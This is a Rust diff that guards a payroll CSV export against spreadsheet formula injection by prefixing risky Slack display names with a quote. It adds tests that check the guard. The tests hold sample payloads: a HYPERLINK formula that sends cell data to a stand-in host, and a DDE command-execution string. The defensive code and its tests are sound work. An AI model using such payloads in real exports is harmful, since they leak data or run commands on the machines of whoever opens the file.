@@ -34,6 +34,16 @@ fn name<'a>(names: &'a HashMap<UserId, String>, user: &'a UserId) -> &'a str {
     names.get(user).map_or(user.as_str(), String::as_str)
 }
 
+/// A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, tab or carriage return
+/// first) gets a `'` in front, as OWASP advises for CSV exports: names are what people set in
+/// Slack, and `=HYPERLINK(…)` as a name must not run when payroll opens the file.
+fn spreadsheet_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 /// The payroll CSV.
 pub fn csv(
     statements: &[Statement],
@@ -47,7 +57,7 @@ pub fn csv(
             let b = &c.breakdown;
             out.write_record([
                 s.user.as_str(),
-                name(names, &s.user),
+                &spreadsheet_text(name(names, &s.user)),
                 c.channel.as_str(),
                 &b.days(DayKind::Weekday).to_string(),
                 &b.days(DayKind::Weekend).to_string(),
@@ -203,5 +213,43 @@ mod tests {
             at("2025-07-01T00:00:00Z")
         )
         .contains("£10.00"));
+    }
+
+    #[test]
+    fn a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
+        // (name in Slack, cell in the CSV)
+        let cases = [
+            (
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+                "'=HYPERLINK(",
+            ),
+            ("+44 7700 900000", "'+44"),
+            ("-Alice", "'-Alice"),
+            ("@alice", "'@alice"),
+            ("\tAlice", "'\tAlice"),
+            ("Alice = Bob", "Alice = Bob"),
+            ("Zoë", "Zoë"),
+        ];
+        for (name, want) in cases {
+            assert!(spreadsheet_text(name).starts_with(want), "{name:?}");
+        }
+        let policy = PayPolicy::unconfigured(chrono_tz::Europe::London);
+        let user = UserId::parse("UALICE").unwrap();
+        let statement = pay::statement(
+            &policy,
+            &[ChannelRota {
+                channel: ChannelId::parse("C1").unwrap(),
+                handovers: vec![HandoverPoint {
+                    at: "2025-06-02T08:00:00Z".parse().unwrap(),
+                    to: user.clone(),
+                }],
+            }],
+            &user,
+            "2025-06".parse().unwrap(),
+            "2025-06-03T08:00:00Z".parse().unwrap(),
+        );
+        let names = HashMap::from([(user, "=cmd|' /C calc'!A0".to_owned())]);
+        let out = csv(&[statement], &policy, &names).unwrap();
+        assert!(out.contains("UALICE,'=cmd|"), "{out}");
     }
 }
